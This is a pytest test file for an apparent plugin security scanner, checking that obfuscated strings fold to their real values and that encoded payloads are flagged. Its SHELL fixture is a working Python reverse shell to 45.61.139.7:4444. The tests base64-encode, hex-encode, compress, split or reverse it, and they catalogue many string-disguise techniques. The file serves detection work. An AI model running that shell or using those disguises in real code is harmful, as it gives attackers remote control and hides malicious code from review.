"""Obfuscation: the bounded folder, and MB365-MB369 on attacker and honest code."""

from __future__ import annotations

import base64
import hashlib
import marshal
import time
import uuid
import zlib
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import libcst as cst
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import expression_context, run, write_plugin
from mbcheck.checks.security import fold as folding
from mbcheck.checks.security.obfuscation import (
    TABLE,
    blob_alphabet,
    content_kind,
    decode_blob,
    table,
)
from mbcheck.checks.security.values import fold_bytes, fold_string
from mbcheck.config import Config
from mbcheck.model import Severity
from mbcheck.pyfile.traverse import FileContext
from mbcheck.resources import load_json

OBFUSCATION = ("MB365", "MB366", "MB367", "MB368", "MB369")
SHELL = (b'import os, socket, subprocess\ns = socket.socket()\ns.connect(("45.61.139.7", 4444))\n'
         b'for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(["/bin/sh", "-i"])\n')


def context(source: str) -> tuple[FileContext, cst.BaseExpression]:
    """The last statement's expression of ``source``, with names bound as the traversal would."""
    ctx, expr = expression_context(source)
    return ctx, expr


def fold(source: str) -> str | None:
    ctx, expr = context(source)
    return fold_string(ctx, expr)


def fold_b(source: str) -> bytes | None:
    ctx, expr = context(source)
    return fold_bytes(ctx, expr)


def findings(tmp_path: Path, source: str, path: str = "__init__.py",
             select: tuple[str, ...] = OBFUSCATION) -> list[tuple[str, int, Severity, str]]:
    files = {"plugin.yaml": "name: demo\nversion: 1.0.0\n", path: source}
    files.setdefault("__init__.py", "")
    root = write_plugin(tmp_path, files)
    report = run(root, Config(select=select))
    assert not report.errors, report.errors
    return sorted((f.rule, f.span.line, f.severity, f.message) for p in report.plugins for f in p.findings)


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# --------------------------------------------------------------------------
# The table


def test_table_conforms_to_its_schema() -> None:
    schema: dict[str, Any] = load_json("schemas/rules-security-obfuscation.schema.json")
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(load_json(TABLE))


def test_exotic_codecs_are_standard_library_codecs() -> None:
    for name in table().exotic_codecs:
        assert folding.codec_name(name) == name, name


# --------------------------------------------------------------------------
# The folder: every disguise folds to its value


@pytest.mark.parametrize(("source", "value"), [
    ("''.join(chr(c) for c in [111, 115])\n", "os"),
    ("''.join([chr(c) for c in (0x6f, 0x73)])\n", "os"),
    ("''.join(chr(c ^ 7) for c in [104, 116])\n", "os"),
    ("''.join(chr(ord(c) - 1) for c in 'fwbm')\n", "eval"),
    ("''.join(map(chr, [101, 118, 97, 108]))\n", "eval"),
    ("''.join(reversed('lave'))\n", "eval"),
    ("bytes([111, 115]).decode()\n", "os"),
    ("bytearray([111, 115]).decode('ascii')\n", "os"),
    ("bytes(c ^ 1 for c in [110, 114]).decode()\n", "os"),
    ("bytes.fromhex('6f73').decode()\n", "os"),
    ("import binascii\nbinascii.unhexlify('6f73').decode()\n", "os"),
    ("import codecs\ncodecs.decode('flfgrz', 'rot13')\n", "system"),
    ("from codecs import decode\ndecode('flfgrz', 'rot_13')\n", "system"),
    ("b'\\x96\\xa2'.decode('cp1026')\n", "os"),
    ("b'\\x96\\xa2'.decode(encoding='cp500')\n", "os"),
    ("import codecs\ncodecs.decode(b'\\x96\\xa2', 'cp1026')\n", "os"),
    ("str(b'\\x96\\xa2', 'cp037')\n", "os"),
    ("'metsys'[::-1]\n", "system"),
    ("'%s%s' % ('o', 's')\n", "os"),
    ("'{}{}'.format('o', 's')\n", "os"),
    ("'{a}.{b}'.format(a='os', b='system')\n", "os.system"),
    ("'oXs'.replace('X', '')\n", "os"),
    ("P = 'ab'\nP += 'cd'\nP += 'ef'\nP\n", "abcdef"),
    ("C = [111, 115]\nbytes(C).decode()\n", "os"),
    ("A = 'sys'\nB = A + 'tem'\nB\n", "system"),
    ("import base64\nbase64.b64decode('b3M=').decode()\n", "os"),
    ("import zlib\nzlib.decompress(" + repr(zlib.compress(b"os")) + ").decode()\n", "os"),
    ("import codecs\ncodecs.decode(" + repr(zlib.compress(b"os")) + ", 'zlib').decode()\n", "os"),
    ("''.join(chr(int(x, 16)) for x in ['6f', '73'])\n", "os"),
])
def test_disguises_fold_to_their_value(source: str, value: str) -> None:
    assert fold(source) == value


@pytest.mark.parametrize("source", [
    "'%999999999s' % 'o'\n",                 # a width would allocate gigabytes
    "'{:>999999999}'.format('o')\n",
    "'{0.__class__}'.format('o')\n",         # attribute access is not a plain field
    "bytes(10 ** 9).decode()\n",
    "bytes(range(10 ** 12)).decode()\n",
    "''.join(chr(c) for c in range(10 ** 12))\n",
    "b'x'.decode('no-such-codec')\n",
    "b'x'.decode('mbcs.evil')\n",            # never a module outside `encodings`
    "'x' * 10\n",
    "def f(x):\n    pass\n''.join(chr(c) for c in x)\n",
])
def test_hostile_or_dynamic_forms_do_not_fold(source: str) -> None:
    assert fold(source) is None


def test_decompression_is_bounded() -> None:
    bomb = zlib.compress(b"\0" * (50 * 1024 * 1024), 9)  # 50 MB of zeros in ~50 KB
    data = fold_b(f"import zlib\nzlib.decompress({bomb!r})\n")
    assert data is not None and len(data) == folding.MAX_FOLD


def test_a_huge_literal_costs_little() -> None:
    text = b64(bytes(range(256)) * 30_000)  # about 10 MB
    source = f"import base64\nP = {text!r}\nexec(base64.b64decode(P)[::-1].decode('cp1026'))\n"
    start = time.monotonic()
    assert fold(source.rsplit("\n", 2)[0] + "\nbase64.b64decode(P)[::-1].decode('cp1026')\n") is None
    assert blob_alphabet(text) == "base64"
    assert time.monotonic() - start < 5


def test_deep_nesting_does_not_recurse_forever() -> None:
    source = "(" * 30 + "'a' + " * 300 + "'a'" + ")" * 30 + "\n"
    fold(source)  # must return, folded or not


_PIECE = st.one_of(
    st.text(max_size=8).map(repr),
    st.binary(max_size=8).map(repr),
    st.integers(min_value=-300, max_value=0x110010).map(str),
    st.sampled_from(["'rot13'", "'cp1026'", "'hex'", "'zlib'", "'utf-8'", "'base64'", "'punycode'", "'idna'",
                     "'utf-16'", "'%s'", "'{}'", "'{0:>5}'", "x", "C", "range(5)", "[]", "()", "None"]),
)


@st.composite
def _expressions(draw: st.DrawFn, depth: int = 0) -> str:
    if depth > 3 or draw(st.booleans()):
        return draw(_PIECE)
    inner = draw(_expressions(depth + 1))
    other = draw(_expressions(depth + 1))
    form = draw(st.sampled_from([
        "{a} + {b}", "{a} % {b}", "{a} % ({a}, {b})", "{a}.format({b})", "{a}.join([{a}, {b}])",
        "{a}.join({b} for c in {a})", "''.join(chr(c ^ {b}) for c in {a})", "''.join(map(chr, {a}))",
        "bytes({a})", "bytes({a}).decode({b})", "{a}.decode({b})", "{a}.encode({b})", "codecs.decode({a}, {b})",
        "codecs.encode({a}, {b})", "str({a}, {b})", "{a}[::-1]", "bytes.fromhex({a})", "chr({a})",
        "zlib.decompress({a})", "base64.b64decode({a})", "bytes(c - {b} for c in {a})", "int({a}, {b})",
        "''.join(reversed({a}))", "{a}.replace({a}, {b})",
    ]))
    return form.format(a=inner, b=other)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_expressions(), st.text(max_size=20))
def test_the_folder_never_crashes(expression: str, constant: str) -> None:
    source = f"import codecs, zlib, base64\nC = {constant!r}\nC += 'x'\n({expression})\n"
    try:
        cst.parse_module(source)
    except cst.ParserSyntaxError:
        return
    ctx, expr = context(source)
    text = fold_string(ctx, expr)
    data = fold_bytes(ctx, expr)
    assert text is None or (isinstance(text, str) and len(text) <= folding.MAX_FOLD)
    assert data is None or (isinstance(data, bytes) and len(data) <= folding.MAX_FOLD)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_content_classification_never_crashes(data: bytes) -> None:
    assert content_kind(data).kind in ("data", "code", "bytecode", "text", "binary")
    assert decode_blob(data.decode("latin-1"), "base64") is None or True


# --------------------------------------------------------------------------
# Every rule sees the real name once it folds


def test_existing_rules_see_the_folded_names(tmp_path: Path) -> None:
    source = ("def go():\n    getattr(__import__(bytes([111, 115]).decode()), 'metsys'[::-1])('id')\n"
              "    exec(''.join(chr(c ^ 7) for c in [119, 117, 110, 105, 115, 47, 54, 46]))\n")
    found = findings(tmp_path, source, select=("MB312", "MB313"))
    assert ("MB312", 2, Severity.ERROR) in [(r, line, s) for r, line, s, _ in found]
    assert ("MB313", 3, Severity.ERROR) in [(r, line, s) for r, line, s, _ in found]
    report = run(tmp_path / "example", Config(select=("MB3",)))
    assert "subprocess" in report.plugins[0].permissions["inferred"]


# --------------------------------------------------------------------------
# MB365: blobs


def test_png_icon_written_to_a_file_is_not_reported(tmp_path: Path) -> None:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2
    source = (f"import base64\nICON = {b64(png)!r}\n\ndef install(target):\n"
              "    target.write_bytes(base64.b64decode(ICON))\n")
    assert findings(tmp_path, source) == []


@pytest.mark.parametrize("literal", [
    repr(hashlib.sha256(b"x").hexdigest()),
    repr(hashlib.sha512(b"x").hexdigest()),
    repr(str(uuid.uuid4())),
    repr(" ".join(hashlib.sha256(bytes([i])).hexdigest() for i in range(8))),
    repr("\n".join(f"pkg/mod{i}.py,sha256={b64(hashlib.sha256(bytes([i])).digest())},{i * 100}"
                   for i in range(10))),
    repr("-----BEGIN PUBLIC KEY-----\n" + b64(b"0\x82\x01\x22" + bytes(range(256)) + bytes(34)) + "\n-----END PUBLIC KEY-----\n"),
    repr(b64(b"0\x82\x01\x22" + bytes(range(256)) + bytes(34))),
    repr("Bitte geben Sie einen gueltigen Dateinamen ein; erlaubt sind Buchstaben und Ziffern. " * 4),
    repr(r"^(?P<scheme>[a-z][a-z0-9+.-]*)://(?P<host>[^/:]+)(?::(?P<port>\d+))?(?P<path>/[^?#]*)?" * 3),
    repr("A" * 400),
])
def test_honest_literals_are_not_blobs(tmp_path: Path, literal: str) -> None:
    source = f"import base64\nVALUE = {literal}\n\ndef value():\n    return base64.b64decode(VALUE)\n"
    assert findings(tmp_path, source) == []


def test_base64_fixture_in_a_test_file_is_not_reported(tmp_path: Path) -> None:
    source = f"import base64\n\ndef test_decode():\n    assert base64.b64decode({b64(SHELL)!r})\n"
    assert findings(tmp_path, source, path="tests/test_codec.py") == []


def test_a_2kb_blob_decoded_and_run_is_an_error(tmp_path: Path) -> None:
    payload = SHELL * 9 + b"# " + bytes(range(48, 122)) + b"\n"
    assert len(b64(payload)) > 2000
    source = f"import base64\n_P = {b64(payload)!r}\n\ndef start():\n    code = base64.b64decode(_P)\n    exec(code)\n"
    found = findings(tmp_path, source, select=("MB365",))
    assert [(r, line, s) for r, line, s, _ in found] == [("MB365", 2, Severity.ERROR)]
    assert "exec" in found[0][3]


def test_a_compressed_code_blob_is_a_warning_even_unused(tmp_path: Path) -> None:
    program = SHELL + b"".join(b"value_%d = %d\n" % (i, i * 7919 % 1000) for i in range(80))
    source = f"DATA = {b64(zlib.compress(program))!r}\n"
    found = findings(tmp_path, source, select=("MB365",))
    assert [(r, s) for r, _, s, _ in found] == [("MB365", Severity.WARNING)]
    assert "zlib-compressed" in found[0][3]


def test_unknown_binary_counts_only_when_decoded(tmp_path: Path) -> None:
    blob = b64(hashlib.sha512(b"a").digest() * 4)
    assert findings(tmp_path, f"KEY = {blob!r}\n", select=("MB365",)) == []
    decoded = f"import base64\nKEY = base64.b64decode({blob!r})\n"
    assert [(r, s) for r, _, s, _ in findings(tmp_path, decoded, select=("MB365",))] == [("MB365", Severity.WARNING)]


def test_a_hex_blob_of_code_is_reported(tmp_path: Path) -> None:
    source = f"import subprocess\nX = {SHELL.hex()!r}\nsubprocess.run(['python', '-c', bytes.fromhex(X).decode()])\n"
    found = findings(tmp_path, source, select=("MB365",))
    assert [(r, line, s) for r, line, s, _ in found] == [("MB365", 2, Severity.ERROR)]


# --------------------------------------------------------------------------
# MB366: disguised strings


@pytest.mark.parametrize(("source", "line", "severity"), [
    ("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n", 1, Severity.ERROR),
    ("import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n", 2, Severity.ERROR),
    ("import os\nfn = getattr(os, 'metsys'[::-1])\n", 2, Severity.ERROR),
    ("mod = __import__(bytes([111, 115]).decode())\n", 1, Severity.ERROR),
    ("import subprocess\nsubprocess.run(b'\\x83\\x81\\x99\\x93'.decode('cp1026'))\n", 2, Severity.ERROR),
    ("import importlib\nmod = importlib.import_module('sub' + 'process')\n", 2, Severity.ERROR),
    ("NAME = b'\\x96\\xa2'.decode('cp1026')\n", 1, Severity.WARNING),
    ("WORD = ''.join(chr(c) for c in [104, 101, 108, 108, 111])\n", 1, Severity.WARNING),
])
def test_disguised_strings(tmp_path: Path, source: str, line: int, severity: Severity) -> None:
    found = findings(tmp_path, source, select=("MB366",))
    assert [(r, ln, s) for r, ln, s, _ in found] == [("MB366", line, severity)]


def test_a_name_held_in_a_variable_reaches_the_import(tmp_path: Path) -> None:
    source = ("def load():\n    name = ''.join(map(chr, [115, 111, 99, 107, 101, 116]))\n"
              "    return __import__(name)\n")
    found = findings(tmp_path, source, select=("MB366",))
    assert [(r, ln, s) for r, ln, s, _ in found] == [("MB366", 2, Severity.ERROR)]


@pytest.mark.parametrize("source", [
    "RESET = chr(27) + '[0m'\n",
    "ARROW = chr(0x2192)\n",
    "TABLE = ''.join(map(chr, range(32, 127)))\n",
    "PATH = 'os.' + 'path'\n",
    "GREETING = ' '.join(['Hello', 'world'])\n",
    "__all__ = ['a', 'b']\nEXPORTS = ', '.join(__all__)\n",
    "TEXT = b'caf\\xc3\\xa9'.decode('utf-8')\n",
    "TEXT = b'caf\\xe9'.decode('latin-1')\n",
    "def pal(word):\n    return word == word[::-1]\n",
    "PROMPT = '%s> ' % 'mbcheck'\n",
])
def test_honest_string_building_is_not_a_disguise(tmp_path: Path, source: str) -> None:
    assert findings(tmp_path, source) == []


# --------------------------------------------------------------------------
# MB367, MB368, MB369


def test_pyarmor_stub(tmp_path: Path) -> None:
    source = ("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
              "__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03\\x08\\x00\\x01')\n")
    found = findings(tmp_path, source, select=("MB367",))
    assert [(r, ln, s) for r, ln, s, _ in found] == [
        ("MB367", 1, Severity.ERROR), ("MB367", 2, Severity.ERROR), ("MB367", 3, Severity.ERROR)]


def test_split_payload_run_is_an_error_and_a_long_message_is_not(tmp_path: Path) -> None:
    text = b64(SHELL)
    pieces = [text[i:i + 24] for i in range(0, len(text), 24)]
    source = "import base64\n_ = ''\n" + "".join(f"_ += {p!r}\n" for p in pieces) + "exec(base64.b64decode(_))\n"
    found = findings(tmp_path, source, select=("MB368",))
    assert [(r, ln, s) for r, ln, s, _ in found] == [("MB368", 3, Severity.ERROR)]
    message = "HELP = ''\n" + "".join(f"HELP += {f'line {i} of the help text, long enough '!r}\n" for i in range(10))
    assert findings(tmp_path, message + "print(HELP)\n", select=("MB368",)) == []


def test_marshalled_bytecode(tmp_path: Path) -> None:
    code = marshal.dumps(compile("print(1)", "x", "exec"))
    source = f"import marshal, base64\nexec(marshal.loads(base64.b64decode({b64(code)!r})))\n"
    found = findings(tmp_path, source, select=("MB369",))
    assert [(r, ln, s) for r, ln, s, _ in found] == [("MB369", 2, Severity.ERROR)]


def test_attack_shapes_are_refused_by_the_gate(tmp_path: Path) -> None:
    from mbcheck.gate import admit

    source = ("import base64\n_ = lambda __: __import__('zlib').decompress(__[::-1])\n"
              f"exec((_)({zlib.compress(SHELL)[::-1]!r}))\n")
    root = write_plugin(tmp_path, {"plugin.yaml": "name: demo\nversion: 1.0.0\n", "__init__.py": source})
    report = run(root, Config())
    assert any(f.rule in ("MB313", "MB365") and f.severity is Severity.ERROR
               for p in report.plugins for f in p.findings)
    decision = admit(root, report)
    assert not decision.allowed


def test_a_blob_finding_is_placed_on_its_statement_for_suppressions(tmp_path: Path) -> None:
    text = b64(SHELL)
    wrapped = "".join(f"    {text[i:i + 60]!r}\n" for i in range(0, len(text), 60))
    source = f"STAGE = (  # mbcheck: ignore[MB365]\n{wrapped})\n"
    files = {"plugin.yaml": "name: demo\nversion: 1.0.0\n", "__init__.py": source}
    report = run(write_plugin(tmp_path, files), Config(select=("MB365",)))
    assert not [f for p in report.plugins for f in p.findings if f.rule == "MB365"]
    assert [s.finding.rule for p in report.plugins for s in p.suppressed] == ["MB365"]


def test_readable_code_joined_for_python_c_is_not_a_split_payload(tmp_path: Path) -> None:
    source = ("import subprocess, sys\n\ndef probe():\n    code = '\\n'.join((\n        'import sys',\n"
              "        'def dump(name):',\n        '    std = getattr(sys, name)',\n"
              "        '    print(\"%s: %s\" % (name, std.errors))',\n        'dump(\"stdin\")',\n"
              "        'dump(\"stdout\")',\n        'dump(\"stderr\")',\n    ))\n"
              "    return subprocess.run([sys.executable, '-c', code], check=False)\n")
    assert findings(tmp_path, source, select=("MB368",)) == []


def test_marshal_of_a_literal_in_a_test_of_marshal_is_not_reported(tmp_path: Path) -> None:
    source = "import marshal\n\ndef test_loads():\n    assert marshal.loads(b'\\xe9\\x01\\x00\\x00\\x00') == 1\n"
    assert findings(tmp_path, source, path="tests/test_marshal.py", select=("MB369",)) == []


def test_an_embedded_translation_catalog_is_data(tmp_path: Path) -> None:
    catalog = b"\xde\x12\x04\x95" + hashlib.sha512(b"mo").digest() * 5
    source = f"import base64\nMO = base64.b64decode({b64(catalog)!r})\n"
    assert findings(tmp_path, source, select=("MB365",)) == []
